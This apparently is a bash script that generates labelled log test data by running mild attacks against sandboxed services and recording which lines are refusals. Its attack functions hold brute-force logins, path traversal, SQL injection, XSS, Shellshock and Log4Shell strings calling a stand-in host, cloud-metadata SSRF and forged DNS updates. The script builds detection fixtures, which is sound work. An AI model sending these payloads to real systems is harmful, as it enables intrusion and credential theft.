#!/usr/bin/env bash
# Records the same services under mild attack, and beside each log what was done:
# which client each line is about, and whether the line is a refusal.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=room.sh
. "$(dirname "$0")/room.sh"
# shellcheck source-path=SCRIPTDIR source=people.sh
. "$(dirname "$0")/people.sh"
# shellcheck source-path=SCRIPTDIR source=services.sh
. "$(dirname "$0")/services.sh"

declare -A ADDRESS=([one]=198.51.100.7 [two]=198.51.100.99 [three]=203.0.113.66 [admin]=10.20.0.5)

# How each service words a refusal.
declare -A REFUSAL=(
    [sshd]='Failed (password|none|publickey)|Invalid user|authentication failure|error: maximum authentication|Too many authentication failures|drop connection|banner exchange|Unable to negotiate|account .* has expired|Access denied'
    [dropbear]='Login attempt for nonexistent|Bad password attempt|Max auth tries'
    [pam]='authentication failure|Refused user'
    [postfix]='NOQUEUE: reject|SASL [A-Z]+ authentication failed|improper command pipelining|non-SMTP command|too many errors'
    [dovecot]='auth failed'
    [nginx.access]='" (400|401|403|405|503|505) '
    [nginx.error]='\[error\]'
    [apache.access]='" (400|401|403|405) '
    [apache.error]='(authz_core|auth_basic|core):error'
    [vsftpd]='FAIL LOGIN'
    [proftpd]='no such user|Incorrect password|Maximum login attempts|Root login'
    [pure-ftpd]='Authentication failed'
    [postgresql]='FATAL'
    [mariadb]='Access denied'
    [named]='denied|REFUSED'
    [squid]='TCP_DENIED|NONE_NONE/400'
    [haproxy]='<NOSRV> [-0-9/]+ 40[03] .* PR-- '
    [exim4]='rejected|authenticator failed|protocol (synchronization )?error|unrecognized command|too many (unrecognized|syntax)'
)

# What leaves open whether it was one: such lines get an address and no status.
declare -A UNSURE=(
    [sshd]='Connection (closed|reset) by|Disconnect(ed|ing)|ssh_dispatch_run_fatal|Received disconnect'
    [dropbear]='Exit before auth'
    [postfix]=' disconnect from|lost connection'
    [dovecot]='no auth attempts'
    [nginx.access]='" 404 '
    [apache.access]='" 404 '
    [haproxy]=' pages/nginx [-0-9/]+ [45]'
    [mariadb]='could not be resolved|Aborted connection'
    [squid]='NONE_NONE/000'
    [proftpd]='disconnecting'
    [exim4]='SMTP|connection|command'
    [pure-ftpd]='HTTP command'
)

# attempt SERVICE[,SERVICE...] CLIENT COMMAND...: what the services write meanwhile is
# about that client.
attempt() {
    local services=$1 client=$2 service
    shift 2
    for service in ${services//,/ }; do
        printf '%s %s ' "$client" "$(view "$service" | wc -l)" >>"$RUN/spans.$service"
    done
    from "$client" "$@" >/dev/null 2>&1 || true
    sleep 1
    for service in ${services//,/ }; do
        view "$service" | wc -l >>"$RUN/spans.$service"
    done
}

# Writes the logs and their expectations. Of the lines written during an attempt,
# those that show its client's address are about that client; those that do not, and
# word a refusal, are refusals; the rest may be the daemon's own housekeeping.
collect() {
    local service client before after
    keep_views hostile "$@"
    for service in "$@"; do
        while read -r client before after; do
            expect_lines "$service" "${ADDRESS[$client]}" "$before" "$after"
        done <"$RUN/spans.$service" >"$TESTDATA/hostile/$service.expect.jsonl"
    done
}

expect_lines() {
    REFUSAL=${REFUSAL[$1]} UNSURE=${UNSURE[$1]:-^$} awk -v address="$2" -v from="$3" -v to="$4" '
        NR <= from || NR > to { next }
        $0 ~ ENVIRON["REFUSAL"] { status = ",\"status\":\"failure\"" }
        $0 !~ ENVIRON["REFUSAL"] { status = $0 ~ ENVIRON["UNSURE"] ? "" : ",\"status\":\"other\"" }
        index($0, address) { printf "{\"line\":%d,\"src_ip\":\"%s\"%s}\n", NR, address, status; next }
        status ~ "failure" { printf "{\"line\":%d%s}\n", NR, status }
        ' "$TESTDATA/hostile/$1.log"
}

strangers_gather() {
    local client
    boot
    for client in "${!ADDRESS[@]}"; do
        add_client "$client" "${ADDRESS[$client]}"
    done
    add_person alice "$ALICE_PASSWORD" --groups sudo
    machine ssh-keygen -q -t ed25519 -N '' -f /root/stranger
    machine sh -c 'printf "#!/bin/sh\necho wrong\n" >/root/wrong && chmod 755 /root/wrong'
}

most_services() {
    open_room "$ROOM/base"
    strangers_gather
    local service
    for service in nginx apache mail 'ftp vsftpd' postgresql mariadb named squid haproxy dropbear; do
        # shellcheck disable=SC2086
        serve_$service
    done
    forget_preparation
    attack_sshd
    attack_dropbear
    attack_mail dovecot,postfix,pam
    attack_ftp vsftpd,pam
    attack_web nginx.access,nginx.error 80 81
    attack_web apache.access,apache.error 8080 8080
    attack_web haproxy 8000 8000
    attack_databases
    attack_named
    attack_squid
    collect sshd dropbear pam postfix dovecot vsftpd nginx.access nginx.error apache.access \
        apache.error haproxy postgresql mariadb named squid
}

attack_sshd() {
    local user
    for user in root admin oracle alice 'admin from 10.20.0.5 port 22' ''; do
        attempt sshd one sshpass -p wrong "${SSH[@]}" -o NumberOfPasswordPrompts=1 -l "$user" "$MACHINE_IP" id
    done
    attempt sshd two env SSH_ASKPASS=/root/wrong SSH_ASKPASS_REQUIRE=force \
        "${SSH[@]}" -o NumberOfPasswordPrompts=8 "alice@$MACHINE_IP" id
    attempt sshd two "${SSH[@]}" -o BatchMode=yes -i /root/stranger "alice@$MACHINE_IP" id
    attempt sshd two "${SSH[@]}" -o BatchMode=yes -i /root/stranger "ftpuser@$MACHINE_IP" id
    attempt sshd three sh -c "printf 'GET / HTTP/1.1\r\n\r\n' | nc -w 2 $MACHINE_IP 22"
    attempt sshd three sh -c "nc -z $MACHINE_IP 22"
    attempt sshd three sh -c "printf '\026\003\001\000\245\001' | nc -w 2 $MACHINE_IP 22"
    attempt sshd three sh -c "printf 'SSH-2.0-Go\r\nnonsense nonsense nonsense' | nc -w 2 $MACHINE_IP 22"
    attempt sshd three sh -c "printf 'SSH-1.5-old\r\n' | nc -w 2 $MACHINE_IP 22"
    attempt sshd three "${SSH[@]}" -o KexAlgorithms=diffie-hellman-group14-sha1 "root@$MACHINE_IP" id
    attempt sshd three "${SSH[@]}" -o Ciphers=aes128-cbc "root@$MACHINE_IP" id
    attempt sshd three sh -c "for i in \$(seq 25); do sleep 4 | nc -w 4 $MACHINE_IP 22 & done; wait"
    by_key admin alice true
    machine usermod --lock --expiredate 1 alice
    attempt sshd one "${SSH[@]}" -o BatchMode=yes -i /root/keys/alice "alice@$MACHINE_IP" id
    machine usermod --unlock --expiredate '' alice
}

attack_dropbear() {
    local user
    for user in root alice nobody-here; do
        attempt dropbear one sshpass -p wrong "${SSH[@]}" -p 2222 "$user@$MACHINE_IP" id
    done
    attempt dropbear two env SSH_ASKPASS=/root/wrong SSH_ASKPASS_REQUIRE=force \
        "${SSH[@]}" -p 2222 -o NumberOfPasswordPrompts=12 "alice@$MACHINE_IP" id
    attempt dropbear two "${SSH[@]}" -p 2222 -o BatchMode=yes -i /root/stranger "alice@$MACHINE_IP" id
    attempt dropbear two sh -c "printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 $MACHINE_IP 2222"
}

attack_mail() {
    local services=$1 user
    for user in alice root info@example.net; do
        attempt "$services" one curl -sk -u "$user:wrong" "imaps://$MACHINE_IP/INBOX"
        attempt "$services" one curl -sk -u "$user:wrong" "pop3s://$MACHINE_IP/"
        attempt "$services" two swaks --server "$MACHINE_IP" --to alice@example.net --tls --auth LOGIN \
            --auth-user "$user" --auth-password wrong
    done
    attempt "$services" two swaks --server "$MACHINE_IP" --to alice@example.net --auth PLAIN \
        --auth-user alice --auth-password wrong
    attack_relay "$services"
    attempt "$services" three sh -c "printf 'a login alice wrong\r\n' | nc -w 2 $MACHINE_IP 143"
    attempt "$services" three sh -c "nc -z $MACHINE_IP 993"
}

attack_relay() {
    local services=$1
    attempt "$services" three swaks --server "$MACHINE_IP" --from a@example.org --to someone@example.com
    attempt "$services" three swaks --server "$MACHINE_IP" --from a@example.org --to nobody-here@example.net
    attempt "$services" three sh -c "printf 'GET / HTTP/1.1\r\nHost: x\r\n\r\n' | nc -w 3 $MACHINE_IP 25"
    attempt "$services" three sh -c "(printf 'EHLO x\r\n'; for i in \$(seq 25); do printf 'BOGUS\r\n'; sleep 0.1; done) | nc -w 3 $MACHINE_IP 25"
}

attack_ftp() {
    local services=$1 user
    for user in alice root anonymous administrator; do
        attempt "$services" one curl -s -u "$user:wrong" "ftp://$MACHINE_IP/"
    done
    attempt "$services" two sh -c "(for i in 1 2 3 4; do sleep 3; printf 'USER alice\r\nPASS guess%s\r\n' \$i; done; sleep 4) | nc -w 5 $MACHINE_IP 21"
    attempt "$services" three sh -c "printf 'GET / HTTP/1.1\r\n\r\n' | nc -w 3 $MACHINE_IP 21"
    attempt "$services" three sh -c "nc -z $MACHINE_IP 21"
}

# attack_web SERVICES PORT PORT-WITH-PRIVATE-PAGES
attack_web() {
    local services=$1 open="http://$MACHINE_IP:$2" private="http://$MACHINE_IP:$3" path
    for path in .env .git/config wp-login.php phpmyadmin/index.php admin/ cgi-bin/test.cgi \
        '../../../../etc/passwd' '%2e%2e/%2e%2e/etc/passwd' "index.html?id=1'%20OR%20'1'='1" \
        'index.html?q=<script>alert(1)</script>' 'index.php?page=http://203.0.113.99/x.txt'; do
        attempt "$services" one curl -s -g --path-as-is -A 'Mozilla/5.0 (compatible; Nikto/2.5.0)' "$open/$path"
    done
    attempt "$services" two curl -s -A "() { :;}; /bin/ping -c 1 198.51.100.7" -e "http://10.20.0.5/\" 200 \"-" "$open/"
    attempt "$services" two curl -s -H 'X-Forwarded-For: 10.20.0.5' -A "\${jndi:ldap://203.0.113.99/a}" "$open/about.html"
    attempt "$services" two curl -s -X TRACE "$open/"
    attempt "$services" two curl -s -X DELETE "$open/index.html"
    for path in alice:wrong admin:admin root:toor; do
        attempt "$services" three curl -s -u "$path" "$private/private/"
    done
    attempt "$services" three curl -s "$private/private/"
    attempt "$services" three curl -s "$private/closed/x"
    attempt "$services" three sh -c "for i in 1 2 3 4 5 6; do curl -s $private/form; done"
    attempt "$services" three sh -c "printf '\026\003\001\002\000\001\000\001\374\003\003' | nc -w 2 $MACHINE_IP $2"
    attempt "$services" three sh -c "printf 'GET / HTTP/9.9\r\n\r\n' | nc -w 2 $MACHINE_IP $2"
    attempt "$services" three sh -c "printf '\x00\x01nonsense\r\n\r\n' | nc -w 2 $MACHINE_IP $2"
    attempt "$services" admin curl -s "$open/about.html"
}

attack_databases() {
    local user
    for user in postgres ledger sa; do
        attempt postgresql one env PGPASSWORD=wrong psql -h "$MACHINE_IP" -U "$user" ledger -c 'select 1'
    done
    attempt postgresql two env PGPASSWORD=wrong psql -h "$MACHINE_IP" -U ledger postgres -c 'select 1'
    attempt postgresql three sh -c "printf 'GET / HTTP/1.1\r\n\r\n' | nc -w 2 $MACHINE_IP 5432"
    attempt postgresql admin env PGPASSWORD="$DATABASE_PASSWORD" psql -h "$MACHINE_IP" -U ledger ledger -c 'select 1'
    for user in root ledger admin; do
        attempt mariadb one mariadb -h "$MACHINE_IP" -u "$user" -pwrong -e 'select 1'
    done
    attempt mariadb two mariadb -h "$MACHINE_IP" -u root --skip-password -e 'select 1'
    attempt mariadb two mariadb -h "$MACHINE_IP" -u ledger -p"$DATABASE_PASSWORD" mysql -e 'select 1'
    attempt mariadb three sh -c "printf 'GET / HTTP/1.1\r\n\r\n' | nc -w 2 $MACHINE_IP 3306"
    attempt mariadb admin mariadb -h "$MACHINE_IP" -u ledger -p"$DATABASE_PASSWORD" ledger -e 'select 1'
}

attack_named() {
    local question
    for question in 'www.example.com A' 'example.org ANY' '. NS'; do
        # shellcheck disable=SC2086
        attempt named one dig +tries=1 +time=2 "@$MACHINE_IP" $question
    done
    attempt named two dig +tries=1 +time=2 "@$MACHINE_IP" example.net AXFR
    attempt named two dig +tries=1 +time=2 "@$MACHINE_IP" version.bind CHAOS TXT
    attempt named two sh -c "printf 'update add evil.example.net 60 A 203.0.113.99\nsend\n' |
        { echo server $MACHINE_IP; echo zone example.net; cat; } | nsupdate -t 3"
    attempt named three dig +tries=1 +time=2 "@$MACHINE_IP" www.example.net A
    attempt named admin dig +tries=1 +time=2 "@$MACHINE_IP" web01.example.net A
}

attack_squid() {
    local target
    for target in http://www.example.com/ http://169.254.169.254/latest/meta-data/ http://127.0.0.1:81/private/; do
        attempt squid one curl -s -x "http://$MACHINE_IP:3128" "$target"
    done
    attempt squid two curl -sp -x "http://$MACHINE_IP:3128" http://mail.example.com:25/
    attempt squid two curl -s "http://$MACHINE_IP:3128/"
    attempt squid three sh -c "printf '\005\001\000' | nc -w 2 $MACHINE_IP 3128"
    attempt squid admin curl -s -x "http://$MACHINE_IP:3128" "http://$MACHINE_IP/about.html"
}

other_mail_and_ftp() {
    build_layer mail exim4-daemon-light proftpd-core
    open_room "$ROOM/mail:$ROOM/base"
    strangers_gather
    machine sed -i "s/^dc_eximconfig_configtype=.*/dc_eximconfig_configtype='internet'/
        s/^dc_other_hostnames=.*/dc_other_hostnames='example.net'/
        s/^dc_local_interfaces=.*/dc_local_interfaces=''/" /etc/exim4/update-exim4.conf.conf
    configure /root/guarded_plain <<'CONF'
guarded_plain:
  driver = plaintext
  public_name = PLAIN
  server_prompts = :
  server_condition = false
  server_set_id = $auth2
CONF
    machine sed -i '/^begin authenticators$/r /root/guarded_plain' /etc/exim4/exim4.conf.template
    start exim4 25
    serve_ftp proftpd
    forget_preparation
    attack_relay exim4
    attempt exim4 one swaks --server "$MACHINE_IP" --to alice@example.net --auth PLAIN \
        --auth-user alice --auth-password wrong
    attempt exim4 one swaks --server "$MACHINE_IP" --to root@example.net --from 'bad address'
    attack_ftp proftpd
    collect exim4 proftpd
}

another_ftp() {
    build_layer pure pure-ftpd
    open_room "$ROOM/pure:$ROOM/base"
    strangers_gather
    serve_ftp pure-ftpd
    forget_preparation
    attack_ftp pure-ftpd
    collect pure-ftpd
}

build_base
(most_services)
(other_mail_and_ftp)
(another_ftp)
